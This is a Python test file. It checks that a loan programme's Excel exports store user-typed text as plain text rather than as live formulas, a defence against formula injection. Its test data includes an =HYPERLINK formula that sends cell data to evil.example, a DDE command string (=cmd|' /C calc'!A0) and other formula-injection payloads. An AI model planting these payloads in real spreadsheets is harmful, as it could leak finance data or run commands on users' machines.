"""Text a person typed goes into every exported sheet as text, never as a formula (issue 10, item 1).

A contract number `=HYPERLINK("http://evil.example/?"&B2,"详情")` or an enterprise name starting with
"=" must reach finance's Excel as the very text typed: a formula there would send the sheet's
figures to another server. Each export is read back twice: by openpyxl (no cell is a formula) and
as the raw XML of the .xlsx (no <f> element anywhere).
"""

from __future__ import annotations

import io
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from eloan.services import enterprises, lists, loans, sanctions, spreadsheets
from eloan.services.spreadsheets import layout
from tests.fixtures.loans import loan_body
from tests.fixtures.registry import data, uscc

LINK = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
# One hostile text per formula lead (OWASP's list), and an error literal openpyxl would store as an error.
HOSTILE = [LINK, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#N/A"]


def formulas(content: bytes) -> list[str]:
    """Every formula in the file: cells openpyxl loads as formulas, and <f> elements in any XML part."""
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        found += [f"{c.coordinate}={c.value!r}" for line in sheet.iter_rows() for c in line if c.data_type in "fe"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith(".xml") and (b"<f>" in archive.read(name) or b"<f " in archive.read(name)):
                found.append(name)
    return found


def texts(content: bytes) -> set:
    return {
        c.value
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets
        for line in sheet.iter_rows()
        for c in line
    }


def test_a_formula_like_text_is_written_as_that_text_and_numbers_stay_numbers():
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(layout.row(sheet, [*HOSTILE, Decimal("-12.50"), 3, date(2024, 6, 5)]))
    content = layout.to_bytes(workbook)

    assert formulas(content) == []
    line = next(openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())
    # (XML itself reads a bare carriage return back as a line feed; the text is otherwise the same.)
    assert [c.value for c in line[: len(HOSTILE)]] == [t.replace("\r", "\n") for t in HOSTILE]
    assert [c.data_type for c in line[: len(HOSTILE)]] == ["s"] * len(HOSTILE)
    # Excel's quote prefix (a style, not a character of the text): editing the cell keeps it text.
    assert all(c.quotePrefix for c in line[:6]) and not line[6].quotePrefix
    assert line[-3].value == -12.5 and line[-3].data_type == "n" and line[-2].value == 3
    assert line[-1].value.date() == date(2024, 6, 5)


def test_the_loan_export_carries_a_hostile_contract_number_as_text(programme):
    finance = programme["finance"]
    for number, text in enumerate(HOSTILE[:4], start=1):
        loans.register(programme["teller"], loan_body(1 + number % 2, contract_no=text, amount="100000.00"))
    loan = loans.register(programme["teller"], loan_body(1, contract_no="HT-OK", amount="100000.00"))
    loans.mark_not_compensable(finance, loan.id, "=1+1 借款用途不符")

    content = spreadsheets.export_loans(finance)

    assert formulas(content) == []
    assert set(HOSTILE[:4]) | {"=1+1 借款用途不符"} <= texts(content)


def test_the_registry_export_carries_hostile_names_and_addresses_as_text(db, make_user):
    zone = make_user("zone", roles=("zone",))
    enterprises.create(zone, data(1, name=LINK, legal_rep="@SUM(A1)", phone="+8613906320000"))
    enterprises.create(zone, data(2, name="-台儿庄某公司", address="=A1&A2"))

    content = spreadsheets.export_registry(zone)

    assert formulas(content) == []
    assert {LINK, "@SUM(A1)", "+8613906320000", "-台儿庄某公司", "=A1&A2"} <= texts(content)


def test_the_batch_and_sanctions_exports_carry_hostile_names_notes_and_reasons_as_text(programme):
    zone, finance = programme["zone"], programme["finance"]
    enterprises.create(zone, data(4, name=LINK))
    batch = lists.create_batch(zone)
    lists.add_entry(zone, batch.id, uscc(4), "1000000.00", note='=HYPERLINK("http://evil.example")')
    flagged = enterprises.create(zone, data(5, name="=cmd|' /C calc'!A0"))
    sanctions.flag(finance, flagged, "@贷款逾期", date(2024, 6, 1))

    batch_file = spreadsheets.export_batch(zone, batch.id)
    sanctions_file = spreadsheets.export_sanctions(finance)

    assert formulas(batch_file) == [] and formulas(sanctions_file) == []
    assert {LINK, '=HYPERLINK("http://evil.example")'} <= texts(batch_file)
    assert {"=cmd|' /C calc'!A0", "@贷款逾期"} <= texts(sanctions_file)


@pytest.mark.parametrize("template", [spreadsheets.enterprise_template, spreadsheets.mu_template])
def test_the_templates_hold_no_formula(template):
    assert formulas(template()) == []


def test_the_loan_template_holds_no_formula(programme):
    assert formulas(spreadsheets.loan_template()) == []


def test_a_control_character_in_a_text_does_not_stop_the_export():
    """XML cannot carry \\x01 and the like; the sheet still comes out, the character shown as a replacement mark."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(layout.row(sheet, ["HT\x01-2024\x1f", "ok"]))
    line = next(openpyxl.load_workbook(io.BytesIO(layout.to_bytes(workbook))).worksheets[0].iter_rows())
    assert [c.value for c in line] == ["HT\ufffd-2024\ufffd", "ok"]
